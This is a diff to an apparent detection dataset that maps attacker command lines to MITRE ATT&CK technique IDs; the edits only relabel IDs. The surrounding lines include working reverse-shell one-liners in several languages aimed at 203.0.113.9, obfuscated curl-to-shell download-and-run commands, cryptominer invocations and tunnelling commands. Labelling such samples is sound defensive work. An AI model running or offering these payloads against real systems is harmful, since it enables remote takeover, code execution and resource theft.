@@ -43,7 +43,7 @@ T1059.004 socat TCP:203.0.113.9:4433 EXEC:/bin/sh
 T1059 python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
 T1059 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4433,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");'
 T1059 ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4433).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'
-T1059 php -r '$s=fsockopen("203.0.113.9",4433);exec("/bin/sh -i <&3 >&3 2>&3");'
+T1059.004 php -r '$s=fsockopen("203.0.113.9",4433);exec("/bin/sh -i <&3 >&3 2>&3");'
 T1059 node -e 'require("net").connect(4433,"203.0.113.9",function(){{var s=require("child_process").spawn("/bin/sh");this.pipe(s.stdin)}})'
 T1059 lua -e 'local s=require("socket");local t=assert(s.tcp());t:connect("203.0.113.9",4433);os.execute("/bin/sh")'
 T1059 awk 'BEGIN {{s = "/inet/tcp/0/203.0.113.9/4433"; while (1) {{ s |& getline c; system(c) }}}}'
@@ -96,7 +96,7 @@ T1105 $ printf '{_ESCAPED}' | sh
 T1105 $ echo -e '{_ESCAPED}' | bash
 T1105 $ $'\\x63\\x75\\x72\\x6c' http://203.0.113.9/x | sh
 T1140 $ openssl enc -aes-256-cbc -d -in /tmp/a -k x | sh
-T1059 $ echo 'hs | a/9.311.0.302//:ptth lruc' | rev | sh
+T1105 $ echo 'hs | a/9.311.0.302//:ptth lruc' | rev | sh
 T1496 ./xmrig -o stratum+tcp://pool.bad.example:3333 -u wallet -p x --donate-level 1
 T1496 /usr/bin/kthreadd --algo rx/0 --url pool.supportxmr.com:443
 T1496 minerd -a cryptonight -o stratum+tcp://203.0.113.9:80
@@ -110,7 +110,7 @@ T1572 frpc -c frpc.ini
 T1572 ngrok tcp 22
 T1572 cloudflared tunnel --url http://localhost:22
 T1572 gs-netcat -s secret -l -i
-T1090 socat TCP-LISTEN:8443,fork TCP:10.20.0.3:22
+T1090.001 socat TCP-LISTEN:8443,fork TCP:10.20.0.3:22
 T1588.002 ./linpeas.sh -a
 T1588.002 ./pspy64
 T1588.002 masscan 10.0.0.0/8 -p22
